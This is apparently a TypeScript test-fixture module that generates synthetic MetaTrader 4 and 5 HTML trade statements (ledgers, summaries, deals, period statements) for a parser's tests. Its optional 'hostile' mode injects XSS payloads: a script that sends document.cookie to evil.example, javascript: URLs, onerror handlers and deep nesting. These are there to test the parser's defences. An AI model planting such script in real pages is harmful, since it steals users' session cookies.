// MetaTrader statements written by us for the tests and the benchmark, from the formats'
// documented columns: MT4's "Detailed Statement" (Closed Transactions, Open Trades, Working
// Orders, Summary, Details) and MT5's "Trade History Report" (Positions, Orders, Deals,
// Results). Amounts are integer cents; the summary lines are summed here the way MetaTrader
// prints them, independently of app/features/performance.

export interface FixtureTrade {
  ticket: number;
  open: string;
  close: string;
  type: "buy" | "sell";
  size: string;
  symbol: string;
  openPrice: string;
  closePrice: string;
  commission: number;
  taxes: number;
  swap: number;
  profit: number;
}

export interface FixtureBalance {
  ticket: number;
  time: string;
  amount: number;
  comment: string;
  type?: "balance" | "credit";
}

export interface FixtureLedger {
  account: string;
  name: string;
  currency: string;
  leverage: string;
  company: string;
  kind: "real" | "demo";
  trades: FixtureTrade[];
  balances: FixtureBalance[];
  /** Pending orders cancelled before they filled: never trades. */
  cancelled: { ticket: number; time: string; type: string; symbol: string }[];
}

export type NumberStyle = "metatrader" | "comma-decimal" | "comma-grouping";

export interface FixtureOptions {
  numbers?: NumberStyle;
  /** Leaves out the summary (a file cut short). */
  withoutSummary?: boolean;
  /** Replaces summary lines, e.g. a statement that does not add up. */
  summary?: Partial<Record<"grossProfit" | "grossLoss" | "netProfit" | "balance", number>>;
  /** Adds scripts, event handlers, deep nesting and a huge junk table around the ledger. */
  hostile?: boolean;
  /**
   * The balance before the statement's first row, in cents: a statement of a later period
   * (a broker's monthly statement), whose summary balance and Deals balances carry it.
   */
  openingBalance?: number;
}

/** cents -> "10 000.00" (MetaTrader), "10 000,00" or "10,000.00". */
export function money(cents: number, style: NumberStyle = "metatrader"): string {
  const negative = cents < 0;
  const abs = Math.abs(cents);
  const units = Math.floor(abs / 100).toString();
  const fraction = (abs % 100).toString().padStart(2, "0");
  const group = style === "comma-grouping" ? "," : " ";
  const decimal = style === "comma-decimal" ? "," : ".";
  const grouped = units.replace(/\B(?=(\d{3})+(?!\d))/g, group);
  return `${negative ? "-" : ""}${grouped}${decimal}${fraction}`;
}

function net(trade: FixtureTrade): number {
  return trade.profit + trade.commission + trade.taxes + trade.swap;
}

/** The summary lines as MetaTrader sums them. */
export function fixtureTotals(ledger: FixtureLedger) {
  let grossProfit = 0;
  let grossLoss = 0;
  for (const trade of ledger.trades) {
    const result = net(trade);
    if (result > 0) grossProfit += result;
    else grossLoss += result;
  }
  const depositWithdrawal = ledger.balances
    .filter((b) => b.type !== "credit")
    .reduce((sum, b) => sum + b.amount, 0);
  const credit = ledger.balances
    .filter((b) => b.type === "credit")
    .reduce((sum, b) => sum + b.amount, 0);
  const netProfit = grossProfit + grossLoss;
  return {
    grossProfit,
    grossLoss,
    netProfit,
    depositWithdrawal,
    credit,
    balance: depositWithdrawal + netProfit,
    profitFactor: grossLoss === 0 ? "0.00" : (grossProfit / -grossLoss).toFixed(2),
    trades: ledger.trades.length,
  };
}

const HOSTILE_HEAD = `<script>fetch("https://evil.example/steal?c="+document.cookie)</script>
<style>body{background:url(javascript:alert(1))}</style>`;

function hostileJunk(): string {
  const nesting = "<div>".repeat(5_000) + "deep" + "</div>".repeat(5_000);
  const rows = Array.from(
    { length: 3_000 },
    (_, i) =>
      `<tr><td onclick="alert(${i})">junk ${i}</td><td><img src=x onerror=alert(1)></td></tr>`,
  ).join("");
  return `${nesting}<table>${rows}</table><iframe src="javascript:alert(1)"></iframe>`;
}

/** A MetaTrader 4 "DetailedStatement.htm". */
export function mt4Statement(ledger: FixtureLedger, options: FixtureOptions = {}): string {
  const m = (cents: number) => money(cents, options.numbers);
  const totals = { ...fixtureTotals(ledger) };
  const summary = {
    grossProfit: options.summary?.grossProfit ?? totals.grossProfit,
    grossLoss: options.summary?.grossLoss ?? totals.grossLoss,
    netProfit: options.summary?.netProfit ?? totals.netProfit,
    balance: options.summary?.balance ?? totals.balance + (options.openingBalance ?? 0),
  };
  type Row = { sortKey: string; html: string };
  const rows: Row[] = [];
  for (const b of ledger.balances) {
    rows.push({
      sortKey: b.time,
      html: `<tr align=right><td title="${b.comment}">${b.ticket}</td><td class=msdate nowrap>${b.time}</td><td>${b.type ?? "balance"}</td><td colspan=10 align=left>${b.comment}</td><td class=mspt>${m(b.amount)}</td></tr>`,
    });
  }
  ledger.trades.forEach((t, i) => {
    const color = i % 2 ? ' bgcolor="#E0E0E0"' : "";
    rows.push({
      sortKey: t.open,
      html: `<tr${color} align=right><td title="robot">${t.ticket}</td><td class=msdate nowrap>${t.open}</td><td>${t.type}</td><td class=mspt>${t.size}</td><td>${t.symbol}</td><td style="mso-number-format:0\\.00000;">${t.openPrice}</td><td style="mso-number-format:0\\.00000;">0.00000</td><td style="mso-number-format:0\\.00000;">0.00000</td><td class=msdate nowrap>${t.close}</td><td style="mso-number-format:0\\.00000;">${t.closePrice}</td><td class=mspt>${m(t.commission)}</td><td class=mspt>${m(t.taxes)}</td><td class=mspt>${m(t.swap)}</td><td class=mspt>${m(t.profit)}</td></tr>`,
    });
  });
  for (const c of ledger.cancelled) {
    rows.push({
      sortKey: c.time,
      html: `<tr align=right><td>${c.ticket}</td><td class=msdate nowrap>${c.time}</td><td>${c.type}</td><td class=mspt>0.10</td><td>${c.symbol}</td><td>1.10000</td><td>0.00000</td><td>0.00000</td><td class=msdate nowrap>${c.time}</td><td>1.10000</td><td colspan=4 align=center>cancelled</td></tr>`,
    });
  }
  // MT4 lists closed transactions by open time.
  rows.sort((a, b) => (a.sortKey < b.sortKey ? -1 : a.sortKey > b.sortKey ? 1 : 0));
  const sum = (pick: (t: FixtureTrade) => number) => ledger.trades.reduce((s, t) => s + pick(t), 0);
  const summaryHtml = options.withoutSummary
    ? ""
    : `<tr align=left><td colspan=13><b>Summary:</b></td></tr>
<tr align=right><td colspan=2><b>Deposit/Withdrawal:</b></td><td colspan=2 class=mspt><b>${m(totals.depositWithdrawal)}</b></td><td colspan=4><b>Credit Facility:</b></td><td class=mspt><b>${m(totals.credit)}</b></td><td colspan=5>&nbsp;</td></tr>
<tr align=right><td colspan=2><b>Closed Trade P/L:</b></td><td colspan=2 class=mspt><b>${m(totals.netProfit)}</b></td><td colspan=4><b>Floating P/L:</b></td><td class=mspt><b>0.00</b></td><td colspan=3><b>Margin:</b></td><td colspan=2 class=mspt><b>0.00</b></td></tr>
<tr align=right><td colspan=2><b>Balance:</b></td><td colspan=2 class=mspt><b>${m(summary.balance)}</b></td><td colspan=4><b>Equity:</b></td><td class=mspt><b>${m(summary.balance)}</b></td><td colspan=3><b>Free Margin:</b></td><td colspan=2 class=mspt><b>${m(summary.balance)}</b></td></tr>
<tr><td colspan=14 style="font: 1pt arial">&nbsp;</td></tr>
<tr align=left><td colspan=14><b>Details:</b></td></tr>
<tr align=center><td colspan=14><img src="StatementDetailed.gif" width=820 height=200 border=0 alt="Graph"></td></tr>
<tr align=right><td colspan=2><b>Gross Profit:</b></td><td colspan=2 class=mspt><b>${m(summary.grossProfit)}</b></td><td colspan=4><b>Gross Loss:</b></td><td class=mspt><b>${m(Math.abs(summary.grossLoss))}</b></td><td colspan=3><b>Total Net Profit:</b></td><td colspan=2 class=mspt><b>${m(summary.netProfit)}</b></td></tr>
<tr align=right><td colspan=2><b>Profit Factor:</b></td><td colspan=2 class=mspt><b>${totals.profitFactor}</b></td><td colspan=4><b>Expected Payoff:</b></td><td class=mspt><b>0.00</b></td><td colspan=5>&nbsp;</td></tr>
<tr align=right><td colspan=2><b>Total Trades:</b></td><td colspan=2 class=mspt><b>${totals.trades}</b></td><td colspan=4><b>Short Positions (won %):</b></td><td class=mspt><b>0 (0.00%)</b></td><td colspan=3><b>Long Positions (won %):</b></td><td colspan=2 class=mspt><b>0 (0.00%)</b></td></tr>`;
  return `<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/strict.dtd">
<html>
  <head>
    <title>Statement: ${ledger.account} - ${ledger.name}</title>
    <meta name="generator" content="MetaQuotes Software Corp.">
    <style type="text/css">
    <!--
    .msdate { mso-number-format:"General Date"; }
    .mspt   { mso-number-format:\\#\\,\\#\\#0\\.00;  }
    //-->
    </style>${options.hostile ? HOSTILE_HEAD : ""}
  </head>
<body topmargin=1 marginheight=1>
<div align=center>
<div style="font: 20pt Times New Roman"><b>${ledger.company}</b></div><br>
${options.hostile ? hostileJunk() : ""}
<table cellspacing=1 cellpadding=3 border=0>
<tr align=left>
    <td colspan=2><b>Account: ${ledger.account}</b></td>
    <td colspan=5><b>Name: ${ledger.name}</b></td>
    <td colspan=2><b>Currency: ${ledger.currency}</b></td>
    <td colspan=2><b>Leverage: ${ledger.leverage}</b></td>
    <td colspan=3 align=right><b>2026 November 20, 18:30</b></td></tr>
<tr align=left><td colspan=13><b>Closed Transactions:</b></td></tr>
<tr align=center bgcolor="#C0C0C0">
   <td>Ticket</td><td nowrap>Open Time</td><td>Type</td><td>Size</td><td>Item</td>
   <td>Price</td><td>S / L</td><td>T / P</td><td nowrap>Close Time</td>
   <td>Price</td><td>Commission</td><td>Taxes</td><td>Swap</td><td>Profit</td></tr>
${rows.map((row) => row.html).join("\n")}
<tr align=right><td colspan=10>&nbsp;</td><td class=mspt>${m(sum((t) => t.commission))}</td><td class=mspt>${m(sum((t) => t.taxes))}</td><td class=mspt>${m(sum((t) => t.swap))}</td><td class=mspt>${m(sum((t) => t.profit))}</td></tr>
<tr align=right><td colspan=12 align=right><b>Closed P/L:</b></td><td colspan=2 align=right class=mspt><b>${m(totals.netProfit)}</b></td></tr>
<tr align=left><td colspan=14><b>Open Trades:</b></td></tr>
<tr align=center bgcolor="#C0C0C0"><td>Ticket</td><td nowrap>Open Time</td><td>Type</td><td>Size</td><td>Item</td><td>Price</td><td>S / L</td><td>T / P</td><td>&nbsp;</td><td>Price</td><td>Commission</td><td>Taxes</td><td>Swap</td><td>Profit</td></tr>
<tr align=right><td colspan=13 align=center>No transactions</td></tr>
<tr align=left><td colspan=14><b>Working Orders:</b></td></tr>
<tr align=right><td colspan=13 align=center>No transactions</td></tr>
<tr><td colspan=14 style="font: 1pt arial">&nbsp;</td></tr>
${summaryHtml}
</table>
</div></body></html>
`;
}

/** A MetaTrader 5 "Trade History Report" (HTML). */
export function mt5Statement(ledger: FixtureLedger, options: FixtureOptions = {}): string {
  const m = (cents: number) => money(cents, options.numbers);
  const totals = fixtureTotals(ledger);
  const summary = {
    grossProfit: options.summary?.grossProfit ?? totals.grossProfit,
    grossLoss: options.summary?.grossLoss ?? totals.grossLoss,
    netProfit: options.summary?.netProfit ?? totals.netProfit,
    balance: options.summary?.balance ?? totals.balance + (options.openingBalance ?? 0),
  };
  const th = (title: string) =>
    `<tr align="center"><th colspan="14" style="height: 25px"><div style="font: 10pt Tahoma"><b>${title}</b></div></th></tr>`;
  const positions = [...ledger.trades]
    .sort((a, b) => (a.open < b.open ? -1 : a.open > b.open ? 1 : 0))
    .map(
      (t, i) =>
        `<tr bgcolor="${i % 2 ? "#F7F7F7" : "#FFFFFF"}" align="right"><td>${t.open}</td><td>${t.ticket}</td><td>${t.symbol}</td><td>${t.type}</td><td>${t.size}</td><td>${t.openPrice}</td><td></td><td></td><td>${t.close}</td><td>${t.closePrice}</td><td>${m(t.commission + t.taxes)}</td><td>${m(t.swap)}</td><td colspan="2">${m(t.profit)}</td></tr>`,
    );
  const orders = [
    ...ledger.trades.map(
      (t) =>
        `<tr bgcolor="#FFFFFF" align="right"><td>${t.open}</td><td>${t.ticket}</td><td>${t.symbol}</td><td>${t.type}</td><td>${t.size} / ${t.size}</td><td>market</td><td></td><td></td><td>${t.open}</td><td>filled</td><td colspan="4"></td></tr>`,
    ),
    ...ledger.cancelled.map(
      (c) =>
        `<tr bgcolor="#FFFFFF" align="right"><td>${c.time}</td><td>${c.ticket}</td><td>${c.symbol}</td><td>${c.type}</td><td>0.10 / 0.00</td><td>1.10000</td><td></td><td></td><td>${c.time}</td><td>canceled</td><td colspan="4"></td></tr>`,
    ),
  ];
  // Deals: an "in" deal carries the entry commission, the "out" deal the rest.
  // Deal numbers are the account's, so the same deal has the same number in every
  // statement that lists it.
  type Deal = {
    deal: number;
    time: string;
    order: number;
    symbol: string;
    type: string;
    direction: string;
    commission: number;
    swap: number;
    profit: number;
    comment: string;
  };
  const deals: Deal[] = [];
  for (const b of ledger.balances) {
    deals.push({
      deal: 800_000_000 + b.ticket,
      time: b.time,
      order: 0,
      symbol: "",
      type: b.type ?? "balance",
      direction: "",
      commission: 0,
      swap: 0,
      profit: b.amount,
      comment: b.comment,
    });
  }
  for (const t of ledger.trades) {
    const entry = Math.trunc((t.commission + t.taxes) / 2);
    deals.push({
      deal: 900_000_000 + t.ticket * 2,
      time: t.open,
      order: t.ticket,
      symbol: t.symbol,
      type: t.type,
      direction: "in",
      commission: entry,
      swap: 0,
      profit: 0,
      comment: "",
    });
    deals.push({
      deal: 900_000_001 + t.ticket * 2,
      time: t.close,
      order: t.ticket,
      symbol: t.symbol,
      type: t.type === "buy" ? "sell" : "buy",
      direction: "out",
      commission: t.commission + t.taxes - entry,
      swap: t.swap,
      profit: t.profit,
      comment: "",
    });
  }
  deals.sort((a, b) => (a.time < b.time ? -1 : a.time > b.time ? 1 : 0));
  let balance = options.openingBalance ?? 0;
  const dealRows = deals.map((d) => {
    if (d.type !== "credit") balance += d.profit + d.commission + d.swap;
    return `<tr bgcolor="#FFFFFF" align="right"><td>${d.time}</td><td>${d.deal}</td><td>${d.symbol}</td><td>${d.type}</td><td>${d.direction}</td><td>${d.order ? "0.10" : ""}</td><td></td><td>${d.order || ""}</td><td>${m(d.commission)}</td><td>0.00</td><td>${m(d.swap)}</td><td>${m(d.profit)}</td><td>${m(balance)}</td><td>${d.comment}</td></tr>`;
  });
  const results = options.withoutSummary
    ? ""
    : `${th("Summary")}
<tr align="right"><td colspan="3">Balance:</td><td colspan="2"><b>${m(summary.balance)}</b></td><td></td><td colspan="3">Free Margin:</td><td colspan="2"><b>${m(summary.balance)}</b></td><td colspan="3"></td></tr>
<tr align="right"><td colspan="3">Credit Facility:</td><td colspan="2"><b>${m(totals.credit)}</b></td><td></td><td colspan="3">Margin:</td><td colspan="2"><b>0.00</b></td><td colspan="3"></td></tr>
<tr align="right"><td colspan="3">Floating P/L:</td><td colspan="2"><b>0.00</b></td><td></td><td colspan="3">Margin Level:</td><td colspan="2"><b>0.00%</b></td><td colspan="3"></td></tr>
<tr align="right"><td colspan="3">Equity:</td><td colspan="2"><b>${m(summary.balance)}</b></td><td colspan="9"></td></tr>
${th("Results")}
<tr align="right"><td colspan="3">Total Net Profit:</td><td><b>${m(summary.netProfit)}</b></td><td colspan="3">Gross Profit:</td><td><b>${m(summary.grossProfit)}</b></td><td colspan="3">Gross Loss:</td><td colspan="3"><b>${m(summary.grossLoss)}</b></td></tr>
<tr align="right"><td colspan="3">Profit Factor:</td><td><b>${totals.profitFactor}</b></td><td colspan="3">Expected Payoff:</td><td><b>0.00</b></td><td colspan="3">Margin Level:</td><td colspan="3"><b>0.00%</b></td></tr>
<tr align="right"><td colspan="3">Balance Drawdown Absolute:</td><td><b>0.00</b></td><td colspan="3">Balance Drawdown Maximal:</td><td><b>0.00 (0.00%)</b></td><td colspan="3">Balance Drawdown Relative:</td><td colspan="3"><b>0.00% (0.00)</b></td></tr>
<tr align="right"><td colspan="3">Equity Drawdown Absolute:</td><td><b>0.00</b></td><td colspan="3">Equity Drawdown Maximal:</td><td><b>123.45 (3.21%)</b></td><td colspan="3">Equity Drawdown Relative:</td><td colspan="3"><b>3.21% (123.45)</b></td></tr>
<tr align="right"><td colspan="3">Total Trades:</td><td><b>${totals.trades}</b></td><td colspan="3">Short Trades (won %):</td><td><b>0 (0.00%)</b></td><td colspan="3">Long Trades (won %):</td><td colspan="3"><b>0 (0.00%)</b></td></tr>`;
  return `<!DOCTYPE html>
<html>
<head>
<title>${ledger.account}: ${ledger.name} - Trade History Report</title>
<meta name="generator" content="client terminal">
<style type="text/css" media="screen">td { font: 8pt  Tahoma,Arial; }</style>${options.hostile ? HOSTILE_HEAD : ""}
</head>
<body>
${options.hostile ? hostileJunk() : ""}
<div align="center">
<table cellspacing="1" cellpadding="3" border="0">
<tr align="center"><td colspan="14"><div style="font: 14pt Tahoma"><b>Trade History Report</b></div></td></tr>
<tr align="left"><th colspan="4" nowrap align="right">Name:</th><th colspan="10" nowrap align="left"><b>${ledger.name}</b></th></tr>
<tr align="left"><th colspan="4" nowrap align="right">Account:</th><th colspan="10" nowrap align="left"><b>${ledger.account} (${ledger.currency}, ${ledger.company}-Server, ${ledger.kind}, Hedge)</b></th></tr>
<tr align="left"><th colspan="4" nowrap align="right">Company:</th><th colspan="10" nowrap align="left"><b>${ledger.company}</b></th></tr>
<tr align="left"><th colspan="4" nowrap align="right">Date:</th><th colspan="10" nowrap align="left"><b>2026.11.20 18:30</b></th></tr>
${th("Positions")}
<tr align="center" bgcolor="#E5F0FC"><td nowrap><b>Time</b></td><td nowrap><b>Position</b></td><td nowrap><b>Symbol</b></td><td nowrap><b>Type</b></td><td nowrap><b>Volume</b></td><td nowrap><b>Price</b></td><td nowrap><b>S / L</b></td><td nowrap><b>T / P</b></td><td nowrap><b>Time</b></td><td nowrap><b>Price</b></td><td nowrap><b>Commission</b></td><td nowrap><b>Swap</b></td><td nowrap colspan="2"><b>Profit</b></td></tr>
${positions.join("\n")}
${th("Orders")}
<tr align="center" bgcolor="#E5F0FC"><td nowrap><b>Open Time</b></td><td nowrap><b>Order</b></td><td nowrap><b>Symbol</b></td><td nowrap><b>Type</b></td><td nowrap><b>Volume</b></td><td nowrap><b>Price</b></td><td nowrap><b>S / L</b></td><td nowrap><b>T / P</b></td><td nowrap><b>Time</b></td><td nowrap><b>State</b></td><td nowrap colspan="4"><b>Comment</b></td></tr>
${orders.join("\n")}
${th("Deals")}
<tr align="center" bgcolor="#E5F0FC"><td nowrap><b>Time</b></td><td nowrap><b>Deal</b></td><td nowrap><b>Symbol</b></td><td nowrap><b>Type</b></td><td nowrap><b>Direction</b></td><td nowrap><b>Volume</b></td><td nowrap><b>Price</b></td><td nowrap><b>Order</b></td><td nowrap><b>Commission</b></td><td nowrap><b>Fee</b></td><td nowrap><b>Swap</b></td><td nowrap><b>Profit</b></td><td nowrap><b>Balance</b></td><td nowrap><b>Comment</b></td></tr>
${dealRows.join("\n")}
${results}
</table>
</div>
</body>
</html>
`;
}

/** As MetaTrader 5 saves it: UTF-16 little-endian with a byte-order mark. */
export function utf16le(text: string): Uint8Array {
  const bytes = Buffer.alloc(2 + text.length * 2);
  bytes[0] = 0xff;
  bytes[1] = 0xfe;
  bytes.write(text, 2, "utf16le");
  return new Uint8Array(bytes);
}

export function utf8(text: string): Uint8Array {
  return new TextEncoder().encode(text);
}

/** A deterministic pseudo-random source (mulberry32). */
function random(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function stamp(ms: number): string {
  const d = new Date(ms);
  const two = (n: number) => String(n).padStart(2, "0");
  return `${d.getUTCFullYear()}.${two(d.getUTCMonth() + 1)}.${two(d.getUTCDate())} ${two(d.getUTCHours())}:${two(d.getUTCMinutes())}:${two(d.getUTCSeconds())}`;
}

/**
 * A long account history: an opening deposit, `trades` trades spread over `months` months
 * from `start` (server time), a deposit and a withdrawal every year, and a few cancelled
 * orders.
 */
export function generatedLedger({
  trades,
  months,
  start = "2021-11-01T12:00:00Z",
  seed = 22,
}: {
  trades: number;
  months: number;
  start?: string;
  seed?: number;
}): FixtureLedger {
  const next = random(seed);
  const from = Date.parse(start);
  const to =
    Date.UTC(new Date(from).getUTCFullYear(), new Date(from).getUTCMonth() + months, 1) - 3_600_000;
  const step = (to - from) / (trades + 1);
  const list: FixtureTrade[] = [];
  for (let i = 0; i < trades; i++) {
    const open = from + 3_600_000 + step * i;
    const profit = Math.round((next() - 0.45) * 4_000);
    list.push({
      ticket: 50_000_000 + i,
      open: stamp(open),
      close: stamp(open + Math.min(step / 2, 1_800_000)),
      type: next() < 0.5 ? "buy" : "sell",
      size: "0.10",
      symbol: "usdjpy",
      openPrice: "150.123",
      closePrice: "150.456",
      commission: -70,
      taxes: 0,
      swap: next() < 0.2 ? -12 : 0,
      profit,
    });
  }
  const balances: FixtureBalance[] = [
    { ticket: 40_000_000, time: stamp(from), amount: 1_000_000, comment: "Deposit" },
  ];
  for (let year = 1; year * 12 < months; year++) {
    const at = Date.UTC(
      new Date(from).getUTCFullYear() + year,
      new Date(from).getUTCMonth(),
      15,
      12,
      0,
      30,
    );
    balances.push({
      ticket: 40_000_000 + year * 2,
      time: stamp(at),
      amount: 250_000,
      comment: "Deposit",
    });
    balances.push({
      ticket: 40_000_001 + year * 2,
      time: stamp(at + 86_400_000 * 60),
      amount: -100_000,
      comment: "Withdrawal",
    });
  }
  return {
    account: "87654321",
    name: "Agentes FX Conta Verificada",
    currency: "USD",
    leverage: "1:500",
    company: "Corretora Exemplo Ltd.",
    kind: "real",
    trades: list,
    balances,
    cancelled: [
      {
        ticket: 60_000_001,
        time: stamp(from + 86_400_000 * 3),
        type: "buy limit",
        symbol: "usdjpy",
      },
      {
        ticket: 60_000_002,
        time: stamp(from + 86_400_000 * 40),
        type: "sell stop",
        symbol: "usdjpy",
      },
    ],
  };
}

/** A broker's statement of one period of a ledger: its rows and its opening balance. */
export interface PeriodStatement {
  ledger: FixtureLedger;
  openingBalance: number;
}

/**
 * The statements a broker e-mails for consecutive periods of one account (times as the
 * ledger writes them, "2022.03.01 00:00:00", `from` included, `to` excluded): each lists the
 * trades closed and the balance operations within its period, and opens with the balance
 * everything before it left.
 */
export function periodStatements(
  ledger: FixtureLedger,
  periods: { from: string; to: string }[],
): PeriodStatement[] {
  const change = (at: string) =>
    ledger.trades.filter((t) => t.close < at).reduce((sum, t) => sum + net(t), 0) +
    ledger.balances
      .filter((b) => b.type !== "credit" && b.time < at)
      .reduce((sum, b) => sum + b.amount, 0);
  return periods.map(({ from, to }) => ({
    openingBalance: change(from),
    ledger: {
      ...ledger,
      trades: ledger.trades.filter((t) => t.close >= from && t.close < to),
      balances: ledger.balances.filter((b) => b.time >= from && b.time < to),
      cancelled: ledger.cancelled.filter((c) => c.time >= from && c.time < to),
    },
  }));
}

/** "2022.03.01 00:00:00": the first instant of a month of the ledger's clock. */
export function monthStart(year: number, month: number): string {
  return stamp(Date.UTC(year, month - 1, 1));
}
